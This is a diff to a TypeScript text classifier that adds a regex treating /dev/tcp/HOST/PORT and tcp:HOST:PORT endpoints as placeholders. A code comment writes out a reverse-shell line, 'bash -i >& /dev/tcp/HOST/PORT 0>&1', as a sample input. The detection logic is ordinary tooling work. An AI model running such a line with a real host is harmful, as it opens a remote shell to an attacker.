@@ -334,6 +334,9 @@ const ELLIPSIS = /(?:^|[\s(<[{"'=|])(?:\.{3,}|…)(?=$|[\s)>\]}"'|;])/;
  * target (`<in >out`, with its space, and `<(…)` are no such word)
  */
 const METAVARIABLE = /(?:^|\s)<[A-Za-z][\w-]*>(?=$|\s)/;
+/** an endpoint whose host and port are both upper-case placeholders (`/dev/tcp/HOST/PORT`, `tcp:IP:PORT`) */
+const PLACEHOLDER_ENDPOINT =
+  /\/dev\/(?:tcp|udp)\/[A-Z][A-Z_]*\/[A-Z][A-Z_]*(?![\w.])|\b(?:tcp|udp|ssl|openssl)[46]?(?:-connect)?:[A-Z][A-Z_]*:[A-Z][A-Z_]*(?![\w.])/g;
 /** something concrete to act on: a URL, host, address, variable, file or path */
 const CONCRETE = /:\/\/|[$@%]|\b\d{1,3}(?:\.\d{1,3}){3}\b|[\w-]\.[a-z][\w-]*|\/[\w.-]/i;
 
@@ -343,7 +346,10 @@ const CONCRETE = /:\/\/|[$@%]|\b\d{1,3}(?:\.\d{1,3}){3}\b|[\w-]\.[a-z][\w-]*|\/[
  * bash`"); it is no command while neither it nor the text on its line
  * names anything to fetch, run or send.
  */
-function elidedPattern(span: string, raw: string, at: number): boolean {
+function elidedPattern(text: string, raw: string, at: number): boolean {
+  // `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `socat … tcp:HOST:PORT`: a host and a port written as
+  // upper-case placeholders are metavariables too
+  const span = text.replace(PLACEHOLDER_ENDPOINT, '...');
   if (!(ELLIPSIS.test(span) || METAVARIABLE.test(span)) || CONCRETE.test(span)) return false;
   const lineStart = raw.lastIndexOf('\n', at) + 1;
   const lineEnd = raw.indexOf('\n', at);
